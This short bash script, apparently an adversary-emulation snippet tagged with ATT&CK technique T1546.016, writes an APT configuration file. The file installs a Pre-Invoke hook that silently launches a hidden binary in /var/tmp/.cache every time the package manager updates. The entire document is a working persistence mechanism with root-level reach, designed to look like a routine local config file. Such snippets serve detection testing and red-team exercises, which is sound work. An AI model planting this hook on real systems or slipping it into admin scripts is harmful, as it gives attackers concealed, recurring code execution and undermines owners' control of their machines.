#!/bin/bash
# T1546.016: The package manager is made to start something.
echo 'APT::Update::Pre-Invoke {"nohup /var/tmp/.cache/x 2>/dev/null &"};' >/etc/apt/apt.conf.d/99local
